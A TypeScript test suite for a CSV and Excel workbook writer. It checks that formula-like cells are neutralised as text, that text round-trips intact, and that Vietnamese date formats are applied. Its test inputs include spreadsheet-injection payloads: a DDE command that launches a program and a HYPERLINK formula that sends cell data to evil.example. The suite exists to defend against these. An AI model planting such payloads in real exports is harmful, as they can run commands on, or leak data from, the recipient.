import { describe, expect, test } from '@jest/globals';
import { readSheet } from 'read-excel-file/node';
import yauzl from 'yauzl';
import { writeCsvTable, writeWorkbook, type Sheet, type SheetValue } from './write-table.js';

const sheet = (...values: SheetValue[]): Sheet => ({
  name: 'Danh sách',
  columns: [{ heading: 'Ô', width: 20 }],
  rows: values.map((value) => [value]),
});

/** Every part of a workbook by its name. */
async function partsOf(workbook: Buffer): Promise<Map<string, string>> {
  const parts = new Map<string, string>();
  const zip = await yauzl.fromBufferPromise(workbook);
  for await (const entry of zip.eachEntry()) {
    const chunks: Buffer[] = [];
    for await (const chunk of await zip.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
    parts.set(entry.fileName, Buffer.concat(chunks).toString());
  }
  return parts;
}

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+A1',
  '=HYPERLINK("http://evil.example/?"&A1;"xem")',
];

describe('a CSV', () => {
  test.each(formulas)('makes text of %j', (typed) => {
    const text = writeCsvTable(sheet(typed)).toString();
    const [, cell] = text.split('\r\n');
    expect(cell!.replace(/^"/, '')).toMatch(/^'/);
  });

  test.each(['+84912345678', '+84 912 345 678', '-5', '0912***678', 'Nguyễn - Hoà', "'đã có"])(
    'leaves %j as it is',
    (typed) => {
      expect(writeCsvTable(sheet(typed)).toString()).toBe(`\uFEFFÔ\r\n${typed}\r\n`);
    },
  );

  test('keeps numbers numbers, writes days as they are read in Vietnam, and quotes what would split a cell', () => {
    const bytes = writeCsvTable(
      sheet(-5, { day: '2025-12-01' }, { at: new Date('2025-11-30T17:30:00Z') }, 'a;b', 'a"b', 'a\nb', null),
    );
    expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
    expect(bytes.toString()).toBe(
      '\uFEFFÔ\r\n-5\r\n01/12/2025\r\n01/12/2025 00:30\r\n"a;b"\r\n"a""b"\r\n"a\nb"\r\n\r\n',
    );
  });

  test('lets no line break in a cell begin a row of its own', () => {
    const text = writeCsvTable(sheet('a\n=1+1', 'a\r=1+1')).toString();
    expect(text).toBe('\uFEFFÔ\r\n"a\n=1+1"\r\n"a\r=1+1"\r\n');
  });

  test('neutralises a heading too', () => {
    const columns = [{ heading: '=A1', width: 5 }];
    expect(writeCsvTable({ name: 'x', columns, rows: [] }).toString()).toBe("\uFEFF'=A1\r\n");
  });
});

describe('a workbook', () => {
  test('holds no formula, and its cells of text are formatted as text', async () => {
    const parts = await partsOf(await writeWorkbook([sheet(...formulas)]));
    const xml = parts.get('xl/worksheets/sheet1.xml')!;
    expect(xml).not.toMatch(/<f[ >]/);
    const cells = [...xml.matchAll(/<c r="A(?!1")\d+"([^>]*)>/g)].map(([, attributes]) => attributes!);
    expect(cells).toHaveLength(formulas.length);
    for (const attributes of cells) expect(attributes).toMatch(/ s="\d+" t="s"/);
    const style = Number(/ s="(\d+)"/.exec(cells[0]!)![1]);
    const styles = parts.get('xl/styles.xml')!;
    const [, formats] = /<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(styles)!;
    const [, numFmtId] = /numFmtId="(\d+)"/.exec(formats!.split('<xf ')[style + 1]!)!;
    expect(numFmtId === '49' || styles.includes(`numFmtId="${numFmtId}" formatCode="@"`)).toBe(true);
  });

  test('gives back what was written, letter by letter', async () => {
    const typed = [
      'Nguyễn Thị Hoà & <con> "cháu" \'x\'',
      '_x0041_',
      '_x005F_x0041_',
      'constructor',
      '__proto__',
      'toString',
      '0912345678',
      '𠮷 đủ',
      '=1+1',
    ];
    const rows = await readSheet(await writeWorkbook([sheet(...typed)]));
    expect(rows.flat()).toEqual(['Ô', ...typed]);
  });

  test('drops characters that no document can hold', async () => {
    const rows = await readSheet(await writeWorkbook([sheet('a\u0000b\u0008c\uFFFEd', 'e\uD800f')]));
    expect(rows.flat()).toEqual(['Ô', 'abcd', 'ef']);
  });

  test('holds real days and numbers, a bold heading that stays in sight, and widths', async () => {
    const bytes = await writeWorkbook([
      sheet(12.5, { day: '2025-12-01' }, { at: new Date('2025-12-01T01:30:00Z') }),
    ]);
    const rows = await readSheet(bytes);
    expect(rows.flat()).toEqual([
      'Ô',
      12.5,
      new Date('2025-12-01T00:00:00Z'),
      new Date('2025-12-01T08:30:00Z'),
    ]);
    const parts = await partsOf(bytes);
    const xml = parts.get('xl/worksheets/sheet1.xml')!;
    expect(xml).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    expect(xml).toMatch(/<col [^>]*width="20"/);
    expect(parts.get('xl/styles.xml')).toContain('<b/>');
    expect(parts.get('xl/styles.xml')).toContain('dd/mm/yyyy hh:mm');
  });

  test('of several sheets keeps them apart', async () => {
    const bytes = await writeWorkbook([sheet('một'), { ...sheet('hai'), name: 'Thông tin' }]);
    expect((await readSheet(bytes, 'Thông tin')).flat()).toEqual(['Ô', 'hai']);
  });
});
